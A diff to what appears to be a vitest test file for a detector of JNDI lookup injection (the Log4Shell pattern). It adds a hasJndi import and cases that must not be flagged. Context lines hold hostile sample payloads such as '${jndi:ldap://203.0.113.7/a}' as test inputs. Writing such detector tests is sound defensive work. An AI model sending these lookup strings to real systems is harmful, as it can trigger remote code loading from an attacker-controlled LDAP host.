@@ -1,5 +1,6 @@
 import { expect, it } from 'vitest';
 import { payloadsOf } from '../../../test/support/request-facts.js';
+import { hasJndi } from './jndi.js';
 
 it.each([
   '/?x=${jndi:ldap://203.0.113.7/a}',
@@ -19,4 +20,24 @@ it.each([
   '/?x=${JNDI:LDAP://x/a}',
 ])('is found in %s', (target) => {
   expect(payloadsOf(target)).toContain('payload:jndi');
+});
+
+it.each([
+  '',
+  'jndi:',
+  '${',
+  '${jndi',
+  '${xjndi:x}',
+  '${a}jndi:x',
+  '${a}:-jndi:x',
+  '${a{jndi:x}',
+  '${$xjndi:x}',
+  '${a-jndi:x}',
+  '${lower:x}ndi:x',
+  '${environment.of.the.host}',
+  // Longer than what is compared of a lookup's beginning.
+  '${${${lower:lower:jndi:}}x',
+  '}}${a:b}jndi:',
+])('is not found in %j', (text) => {
+  expect(hasJndi(text)).toBe(false);
 });
